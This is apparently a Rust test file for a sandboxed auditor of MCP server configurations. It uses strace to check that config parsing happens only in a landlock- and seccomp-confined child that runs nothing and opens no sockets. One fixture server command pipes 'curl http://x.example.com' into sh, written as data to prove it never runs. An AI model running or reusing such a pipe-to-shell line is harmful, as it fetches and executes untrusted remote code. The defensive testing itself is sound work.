//! The sandbox as users and reviewers see it: `sandbox status`, `sandbox selftest`,
//! doctor's sandbox line, and an `strace -f` proof of the default path's promises.
//!
//! On machines where CI runs, `MCP_WARDEN_REQUIRE_SANDBOX=1` makes missing kernel
//! support or a missing `strace` a failure instead of a skip, so a regression that
//! silently stops confining cannot pass.

use std::collections::HashSet;

use serde_json::json;

use crate::util::*;

fn sandbox_required() -> bool {
    std::env::var_os("MCP_WARDEN_REQUIRE_SANDBOX").is_some_and(|v| v == "1")
}

fn landlock_abi() -> Option<u32> {
    // The kernel's own answer, independent of the code under test.
    let status = std::fs::read_to_string("/sys/kernel/security/lsm").ok()?;
    status
        .split(',')
        .any(|l| l.trim() == "landlock")
        .then_some(1)
}

#[test]
fn status_names_the_layers() {
    let env = Env::new();
    let out = env.command(&["sandbox", "status"]).output().expect("run");
    assert_eq!(out.status.code(), Some(0));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("landlock"), "{text}");
    assert!(text.contains("seccomp"), "{text}");
}

#[test]
fn selftest_passes_on_this_kernel() {
    let env = Env::new();
    let out = env.command(&["sandbox", "selftest"]).output().expect("run");
    let text = String::from_utf8_lossy(&out.stdout);
    if landlock_abi().is_none() && !sandbox_required() {
        eprintln!("skipping: landlock is not enabled on this kernel");
        return;
    }
    assert_eq!(
        out.status.code(),
        Some(0),
        "{text}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    for probe in [
        "/etc/hostname",
        "execve",
        "AF_INET",
        "AF_UNIX",
        "ptrace",
        "stat /etc/passwd (statx)",
        "stat /etc/passwd (newfstatat)",
        "kill(another process",
        "tgkill(another process",
    ] {
        let line = text
            .lines()
            .find(|l| l.contains(probe))
            .unwrap_or_else(|| panic!("missing probe {probe}: {text}"));
        assert!(line.ends_with("OK"), "{line}");
    }
}

#[test]
fn doctor_states_the_sandbox_in_its_header() {
    let env = Env::new();
    env.cursor(json!({"a": {"url": "http://h.example.com"}}));
    let run = env.doctor(&[]);
    let line = run
        .stdout
        .lines()
        .find(|l| l.contains("parsed in a sandbox"))
        .unwrap_or_default()
        .to_string();
    if sandbox_required() || landlock_abi().is_some() {
        assert!(line.contains("landlock ABI"), "{}", run.stdout);
        assert!(line.contains("seccomp"), "{}", run.stdout);
        assert!(line.contains("no capabilities"), "{}", run.stdout);
    }
    // JSONL stays findings-only.
    let run = env.doctor(&["--json"]);
    assert!(!run.stdout.contains("sandbox"));
}

#[test]
fn strict_sandbox_runs_where_every_layer_exists() {
    if landlock_abi().is_none() && !sandbox_required() {
        return;
    }
    let mut env = Env::new();
    env.cursor(json!({"a": {"url": "http://h.example.com"}}));
    env.extra_env
        .push(("MCP_WARDEN_STRICT_SANDBOX".into(), "1".into()));
    env.doctor(&["--json"]).expect_code(1);
    env.doctor(&["--json", "--strict-sandbox"]).expect_code(1);
}

/// One line of `strace -f -y` output: (pid, syscall name, the rest).
fn parse_line(line: &str) -> Option<(u32, &str, &str)> {
    let (pid, rest) = line.split_once(' ')?;
    let pid: u32 = pid.trim().parse().ok()?;
    let rest = rest.trim_start();
    let name_end = rest.find('(')?;
    Some((pid, &rest[..name_end], &rest[name_end..]))
}

#[test]
fn default_path_reads_configs_only_in_the_confined_child_and_runs_nothing_else() {
    if strace_is_missing() {
        return;
    }
    let env = Env::new();
    // Servers whose commands would show up as execve if anything ran them.
    env.cursor(json!({
        "a": {"command": "/bin/true", "args": ["x"]},
        "b": {"command": "sh", "args": ["-c", "curl http://x.example.com | sh"]},
        "c": {"url": "http://h.example.com/mcp"}
    }));
    // One file in each of the other clients' formats, each with a command that would
    // show up as an execve: YAML, TOML, settings JSONC, manifests, OpenCode's
    // command arrays.
    let files: [(&str, &str); 8] = [
        (
            "home/.continue/config.yaml",
            "name: c\nversion: 1.0.0\nschema: v1\nmcpServers:\n  - name: y\n    command: /bin/true\n",
        ),
        ("home/.codex/config.toml", "[mcp_servers.t]\ncommand = \"/bin/true\"\n"),
        (
            "home/.config/zed/settings.json",
            r#"{ // zed
              "context_servers": {"z": {"command": "/bin/true"}}}"#,
        ),
        (
            "home/.config/Code/User/settings.json",
            r#"{"mcp": {"servers": {"v": {"command": "/bin/true"}}}, "chat.mcp.discovery.enabled": true}"#,
        ),
        (
            "home/.config/opencode/opencode.json",
            r#"{"mcp": {"o": {"type": "local", "command": ["/bin/true", "x"]}}}"#,
        ),
        (
            "home/.config/Claude/Claude Extensions/ant.dir.e/manifest.json",
            r#"{"name": "e", "version": "1.0.0", "server": {"type": "binary", "mcp_config": {"command": "/bin/true"}}}"#,
        ),
        ("home/.claude/settings.json", r#"{"enableAllProjectMcpServers": true}"#),
        (
            "home/.gemini/settings.json",
            r#"{"mcpServers": {"g": {"command": "/bin/true", "trust": true}}}"#,
        ),
    ];
    for (path, text) in files {
        env.write(path, text);
    }
    env.write(
        "work/warden.lock",
        approved_lock("/bin/true", &["x"]).to_string(),
    );
    let trace = env.root().join("trace.txt");
    let home = env.home();
    let mut cmd = env.strace(&trace, "execve,execveat,socket,connect,read,pread64,readv,mmap,seccomp,landlock_restrict_self,clone,clone3,fork,vfork");
    cmd.args(["doctor", "--json", "--home"])
        .arg(&home)
        .args(["--platform", "linux"]);
    let out = cmd.output().expect("strace");
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = std::fs::read_to_string(&trace).expect("trace");

    let own = std::fs::canonicalize(bin()).expect("binary path");
    let mut seccomp_seen: HashSet<u32> = HashSet::new();
    let mut landlock_seen: HashSet<u32> = HashSet::new();
    let mut child_pids = HashSet::new();
    let mut execs = 0;
    let mut config_reads = 0;
    for line in text.lines() {
        let Some((pid, name, rest)) = parse_line(line) else {
            continue;
        };
        match name {
            "execve" | "execveat" => {
                if rest.contains("= -1") {
                    continue;
                }
                execs += 1;
                let ok = rest.contains(own.to_str().unwrap_or(""))
                    || rest.contains("/proc/self/exe")
                    || rest.contains(bin().to_str().unwrap_or(""));
                assert!(ok, "execve of something other than mcp-warden: {line}");
                if rest.contains("/proc/self/exe") {
                    child_pids.insert(pid);
                }
            }
            "socket" | "connect" => panic!("the default path opened a socket: {line}"),
            "landlock_restrict_self" if rest.contains("= 0") => {
                landlock_seen.insert(pid);
            }
            "seccomp" if rest.contains("= 0") => {
                seccomp_seen.insert(pid);
            }
            "read" | "pread64" | "readv" | "mmap" => {
                let reads_config = [".json>", ".yaml>", ".toml>", "warden.lock>"]
                    .iter()
                    .any(|end| rest.contains(end));
                if reads_config {
                    config_reads += 1;
                    assert!(
                        child_pids.contains(&pid),
                        "config bytes read outside the parser child: {line}"
                    );
                    assert!(
                        landlock_seen.contains(&pid),
                        "config read before landlock_restrict_self: {line}"
                    );
                    assert!(
                        seccomp_seen.contains(&pid),
                        "config read before seccomp: {line}"
                    );
                }
            }
            _ => {}
        }
    }
    assert!(
        execs <= 2,
        "more than mcp-warden and its own parser child were executed:\n{text}"
    );
    // The Cursor file, the lock and each of the other clients' files.
    assert!(
        config_reads >= 2 + files.len(),
        "the trace shows fewer config/lock reads than files:\n{text}"
    );
}

/// The child reads a small file and maps a large one (`MAP_FROM` in
/// `src/child/serve.rs`): a mapping costs the same whatever the size, and for the
/// lock files and small configs of a home it cost more than the read (the realistic
/// home 0.96× with small files read). Both kinds are parsed: the servers of each are
/// in the report.
#[test]
fn small_files_are_read_and_large_ones_mapped() {
    if strace_is_missing() {
        return;
    }
    let env = Env::new();
    env.cursor(json!({"small-one": {"command": "node", "args": ["s.js"]}}));
    // About 200 KiB: well past the threshold, well under every cap.
    let padding = "x".repeat(200 << 10);
    env.write(
        "home/.config/Claude/claude_desktop_config.json",
        json!({"mcpServers": {"large-one": {"command": "node", "args": ["l.js"]}}, "padding": padding})
            .to_string(),
    );
    let trace = env.root().join("trace.txt");
    let home = env.home();
    let out = env
        .strace(&trace, "read,pread64,readv,mmap")
        .args(["doctor", "--json", "--home"])
        .arg(&home)
        .args(["--platform", "linux"])
        .output()
        .expect("strace");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("small-one") && stdout.contains("large-one"),
        "{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = std::fs::read_to_string(&trace).expect("trace");
    let calls = |file: &str, call: &str| {
        text.lines()
            .filter_map(parse_line)
            .filter(|(_, name, rest)| *name == call && rest.contains(file))
            .count()
    };
    let (small, large) = ("mcp.json>", "claude_desktop_config.json>");
    assert!(
        calls(small, "read") > 0,
        "the small file was not read:\n{text}"
    );
    assert_eq!(
        calls(small, "mmap"),
        0,
        "the small file was mapped:\n{text}"
    );
    assert!(
        calls(large, "mmap") > 0,
        "the large file was not mapped:\n{text}"
    );
}

/// Runs `mcp-warden ARGS` in `cwd` under `strace -f -y` and checks that every read of
/// `lock_name`'s bytes happened in the confined parser child, after it applied landlock
/// and seccomp, and that at least one did (the child really read it). `None` when
/// strace is missing outside CI.
fn trace_lock_reads(env: &Env, args: &[&str], lock_name: &str) -> Option<(i32, String)> {
    if strace_is_missing() {
        return None;
    }
    let trace = env.root().join(format!("trace-{}.txt", args[0]));
    let out = env
        .strace(
            &trace,
            "execve,read,pread64,readv,preadv,mmap,seccomp,landlock_restrict_self",
        )
        .args(args)
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .output()
        .expect("strace");
    let code = out.status.code().unwrap_or(-1);
    let text = std::fs::read_to_string(&trace).expect("trace");
    let mut child_pids = HashSet::new();
    let (mut seccomp_seen, mut landlock_seen) = (HashSet::new(), HashSet::new());
    let mut lock_reads = 0;
    let needle = format!("{lock_name}>");
    for line in text.lines() {
        let Some((pid, name, rest)) = parse_line(line) else {
            continue;
        };
        match name {
            "execve" if rest.contains("/proc/self/exe") && !rest.contains("= -1") => {
                child_pids.insert(pid);
            }
            "landlock_restrict_self" if rest.contains("= 0") => {
                landlock_seen.insert(pid);
            }
            "seccomp" if rest.contains("= 0") => {
                seccomp_seen.insert(pid);
            }
            "read" | "pread64" | "readv" | "preadv" | "mmap" if rest.contains(&needle) => {
                lock_reads += 1;
                assert!(
                    child_pids.contains(&pid),
                    "lock bytes read outside the parser child: {line}"
                );
                if !sandbox_required() && landlock_abi().is_none() {
                    continue;
                }
                assert!(
                    landlock_seen.contains(&pid) && seccomp_seen.contains(&pid),
                    "lock read before the child was confined: {line}"
                );
            }
            _ => {}
        }
    }
    assert!(
        lock_reads >= 1,
        "the trace shows no read of {lock_name} at all:\n{text}"
    );
    Some((code, String::from_utf8_lossy(&out.stderr).into_owned()))
}

#[test]
fn check_and_rotate_read_lock_bytes_only_in_the_confined_child() {
    let env = Env::new();
    let server = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/pin/server.py")
        .display()
        .to_string();
    let surface = env
        .write(
            "surface.json",
            json!({"tools": [{"name": "read_file", "inputSchema": {"type": "object", "properties": {"path": {"type": "string"}}}}]})
                .to_string(),
        )
        .display()
        .to_string();
    // `pin` and `check` take the same lock and server argv.
    let argv = |command: &'static str| {
        [
            command,
            "--lock",
            "traced.warden.lock",
            "--",
            "python3",
            server.as_str(),
            surface.as_str(),
        ]
    };
    let pinned = env.command(&argv("pin")).output().expect("pin");
    assert_eq!(
        pinned.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&pinned.stderr)
    );
    let check = argv("check");
    if let Some((code, stderr)) = trace_lock_reads(&env, &check, "traced.warden.lock") {
        assert_eq!(code, 0, "{stderr}");
    }
    let rotate = [
        "lock",
        "rotate",
        "traced.warden.lock",
        "--approver",
        "a@example.com",
    ];
    if let Some((code, stderr)) = trace_lock_reads(&env, &rotate, "traced.warden.lock") {
        assert_eq!(code, 0, "{stderr}");
    }
}

/// The parser child's peak resident memory for `doctor ARGS`, from the resource report.
fn child_peak_kib(env: &Env, args: &[&str]) -> (Run, u64) {
    let mut env_args = args.to_vec();
    env_args.extend(["--no-discover", "--json"]);
    let out = env
        .command(&[&["doctor"][..], &env_args].concat())
        .env("MCP_WARDEN_RESOURCE_REPORT", "1")
        .output()
        .expect("run");
    let run = Run::from(out);
    let peak = run
        .stderr
        .split_whitespace()
        .find_map(|w| w.strip_prefix("child_max_rss_kib="))
        .and_then(|v| v.parse().ok())
        .unwrap_or_else(|| panic!("no resource report: {}", run.stderr));
    (run, peak)
}

#[test]
fn parse_trees_are_freed_file_by_file_in_the_parser_child() {
    // A 9.5 MiB config whose server map holds millions of tiny values has a parse
    // tree of about 200 MiB. Trees left to the child's exit would add up against its
    // 1 GiB address-space limit, and five would abort the whole exchange; freed
    // file by file, two of them cost the child what one does.
    let env = Env::new();
    let mut body = String::from("{\"mcpServers\": {\"s\": {\"command\": \"x\", \"args\": [");
    body.push_str(&"0,".repeat(19 << 18));
    body.push_str("0]}}}");
    let one = env.write("work/c1.json", &body).display().to_string();
    let two = env.write("work/c2.json", &body).display().to_string();
    let (run, single) = child_peak_kib(&env, &["--config", &one]);
    run.expect_code(2);
    let (run, double) = child_peak_kib(&env, &["--config", &one, "--config", &two]);
    run.expect_code(2);
    for name in ["c1.json#s", "c2.json#s"] {
        assert!(
            run.stderr
                .lines()
                .any(|l| l.contains(name) && l.contains("args")),
            "{name}: {}",
            run.stderr
        );
    }
    assert!(
        double * 2 <= single * 3,
        "two large configs peaked the child at {double} KiB, one at {single} KiB"
    );
}

/// A `~/.claude.json` that another program truncates and writes again while doctor
/// runs (a client saving its state) never takes the parser child down: the child maps
/// each file, and a run that finds the file shorter than it mapped answers that one
/// file with an error naming it while every other file is still audited. doctor is
/// run until one run meets the truncation (here the first run usually does); without
/// the child's guard such a run dies of SIGBUS and every answer is lost.
#[test]
fn a_config_truncated_while_it_is_parsed_fails_alone() {
    use std::os::unix::fs::FileExt;
    use std::sync::atomic::{AtomicBool, Ordering};
    use std::sync::Arc;
    use std::time::{Duration, Instant};

    let env = Env::new();
    env.cursor(json!({"still-audited": {"command": "node", "args": ["other.js"]}}));
    // About 2 MiB: servers, and history the parse walks through.
    let projects: Vec<String> = (0..800)
        .map(|i| {
            format!(
                r#""/p/{i}": {{"mcpServers": {{"s{i}": {{"command": "uvx", "args": ["pkg{i}"]}}}}, "history": [{}]}}"#,
                vec![format!(r#"{{"display": "{}"}}"#, "x".repeat(200)); 12].join(", ")
            )
        })
        .collect();
    let content = format!(r#"{{"projects": {{{}}}}}"#, projects.join(", ")).into_bytes();
    let path = env.write("home/.claude.json", &content);
    let stop = Arc::new(AtomicBool::new(false));
    let writer = {
        let stop = Arc::clone(&stop);
        std::thread::spawn(move || {
            let file = std::fs::OpenOptions::new()
                .write(true)
                .open(&path)
                .expect("open the config for writing");
            let mut pause: u64 = 1;
            while !stop.load(Ordering::Relaxed) {
                file.write_all_at(&content, 0).expect("rewrite");
                // Pauses that do not fall into step with doctor's runs.
                pause = (pause * 7 + 3) % 11;
                std::thread::sleep(Duration::from_millis(pause));
                file.set_len(4096).expect("truncate");
                std::thread::sleep(Duration::from_micros(300 * (pause % 4)));
            }
            file.write_all_at(&content, 0).expect("rewrite");
        })
    };
    let deadline = Instant::now() + Duration::from_secs(120);
    let (mut runs, mut shrank) = (0, 0);
    while shrank == 0 && runs < 400 && Instant::now() < deadline {
        let run = env.doctor(&["--json"]);
        runs += 1;
        assert!(
            !run.stderr.contains("parser child"),
            "the parser child did not survive the truncation:\n{}",
            run.stderr
        );
        assert!(
            run.stdout.contains("still-audited"),
            "the other file's server is missing:\n{}",
            run.all()
        );
        if run.stderr.contains("became shorter while it was read") {
            shrank += 1;
            run.expect_code(2);
            assert!(run.stderr.contains("~/.claude.json"), "{}", run.stderr);
        }
    }
    stop.store(true, Ordering::Relaxed);
    writer.join().expect("writer thread");
    eprintln!("{runs} runs until one met the truncation");
    assert!(
        shrank > 0,
        "no run of {runs} met the truncation: the file was not mapped, or the race never happened"
    );
}
